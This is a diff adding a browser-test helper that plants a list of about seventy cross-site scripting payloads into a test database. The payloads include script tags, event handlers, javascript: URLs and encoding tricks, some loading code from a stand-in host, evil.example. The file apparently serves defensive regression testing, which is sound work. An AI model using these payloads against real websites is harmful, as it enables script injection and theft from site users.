@@ -1,0 +1,100 @@
+import { execFile } from "node:child_process";
+import { promisify } from "node:util";
+import { z } from "zod";
+
+/** What an element bears that was made out of one of the texts. */
+export const MARK = "data-boese";
+
+/** Texts that become a script where a page takes them for anything but text. */
+export const HOSTILE_TEXTS: readonly string[] = [
+  `<script ${MARK}>alert(1)</script>`,
+  `<SCRIPT ${MARK}>alert(1)</SCRIPT>`,
+  `<script ${MARK} src=//evil.example/x.js></script>`,
+  `<script ${MARK} src="data:text/javascript,alert(1)"></script>`,
+  `<scr<script>ipt ${MARK}>alert(1)</scr</script>ipt>`,
+  `</script><script ${MARK}>alert(1)</script>`,
+  `</title><script ${MARK}>alert(1)</script>`,
+  `</textarea><script ${MARK}>alert(1)</script>`,
+  `</style><img src=x ${MARK} onerror=alert(1)>`,
+  `</noscript><img src=x ${MARK} onerror=alert(1)>`,
+  `</option></select><img src=x ${MARK} onerror=alert(1)>`,
+  `--><img src=x ${MARK} onerror=alert(1)>`,
+  `]]><img src=x ${MARK} onerror=alert(1)>`,
+  `<img src=x ${MARK} onerror=alert(1)>`,
+  `<img/src/${MARK}/onerror=alert(1)>`,
+  `<img src=x:x ${MARK} onerror="alert(1)"`,
+  `<IMG """><SCRIPT ${MARK}>alert(1)</SCRIPT>">`,
+  `<img src="javascript:alert(1)" ${MARK}>`,
+  `<image href=x ${MARK} onerror=alert(1)>`,
+  `<svg ${MARK} onload=alert(1)>`,
+  `<svg/${MARK}/onload=alert(1)//`,
+  `<svg ${MARK}><script>alert(1)</script></svg>`,
+  `<svg ${MARK}><animate onbegin=alert(1) attributeName=x dur=1s>`,
+  `<svg ${MARK}><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>`,
+  `<svg ${MARK}><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>`,
+  `<math ${MARK}><mi xlink:href="javascript:alert(1)">x</mi></math>`,
+  `<math><mtext><table><mglyph><style><img src ${MARK} onerror=alert(1)>`,
+  `<body ${MARK} onload=alert(1)>`,
+  `<body ${MARK} onpageshow=alert(1)>`,
+  `<iframe ${MARK} src="javascript:alert(1)"></iframe>`,
+  `<iframe ${MARK} srcdoc="<script>alert(1)</script>"></iframe>`,
+  `<object ${MARK} data="javascript:alert(1)"></object>`,
+  `<embed ${MARK} src="javascript:alert(1)">`,
+  `<a ${MARK} href="javascript:alert(1)">x</a>`,
+  `<a ${MARK} href="data:text/html,<script>alert(1)</script>">x</a>`,
+  `<form ${MARK} action="javascript:alert(1)"><button autofocus>x</button></form>`,
+  `<button ${MARK} formaction="javascript:alert(1)">x</button>`,
+  `<input ${MARK} autofocus onfocus=alert(1)>`,
+  `<select ${MARK} autofocus onfocus=alert(1)>`,
+  `<textarea ${MARK} autofocus onfocus=alert(1)>`,
+  `<video ${MARK}><source onerror=alert(1)></video>`,
+  `<audio ${MARK} src=x onerror=alert(1)>`,
+  `<details ${MARK} open ontoggle=alert(1)>x</details>`,
+  `<marquee ${MARK} onstart=alert(1)>x</marquee>`,
+  `<base ${MARK} href="//evil.example/">`,
+  `<meta ${MARK} http-equiv="refresh" content="0;url=javascript:alert(1)">`,
+  `<link ${MARK} rel=stylesheet href="//evil.example/x.css">`,
+  `<style ${MARK}>@import "//evil.example/x.css";</style>`,
+  `<div ${MARK} style="background:url(javascript:alert(1))">x</div>`,
+  `<template ${MARK}><script>alert(1)</script></template>`,
+  `" ${MARK} autofocus onfocus="alert(1)`,
+  `' ${MARK} autofocus onfocus='alert(1)`,
+  `" ${MARK} onmouseover=alert(1) style="position:fixed;inset:0`,
+  `"><img src=x ${MARK} onerror=alert(1)>`,
+  `'><img src=x ${MARK} onerror=alert(1)>`,
+  "javascript:alert(1)",
+  "JaVaScRiPt:alert(1)",
+  "java\tscript:alert(1)",
+  "\u0001javascript:alert(1)",
+  "javascript://firma.example/%0aalert(1)",
+  "data:text/html,<script>alert(1)</script>",
+  "vbscript:msgbox(1)",
+  "&lt;script&gt;alert(1)&lt;/script&gt;",
+  "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
+  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+  "\u2028alert(1)//\u2029",
+  "';alert(1)//",
+  '";alert(1)//',
+  "`;alert(1)//$" + "{alert(1)}",
+  "{{constructor.constructor('alert(1)')()}}",
+  "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+  "\ufeff<script data-boese>alert(1)</script>",
+];
+
+const PlantedSchema = z.object({
+  leadIds: z.array(z.string()),
+  jobIds: z.array(z.string()),
+  importIds: z.array(z.string()),
+});
+/** Where the texts can be read. */
+export type Planted = z.infer<typeof PlantedSchema>;
+
+/**
+ * Writes every text into every field that holds one, into a database file that no server has open. In a process of its
+ * own, since the runner of browser tests cannot load all that the store needs.
+ */
+export async function plantHostileTexts(databasePath: string): Promise<Planted> {
+  const script = ["--import", "tsx", "tests/support/plant-hostile-texts.ts", databasePath];
+  const { stdout } = await promisify(execFile)(process.execPath, script);
+  return PlantedSchema.parse(JSON.parse(stdout));
+}
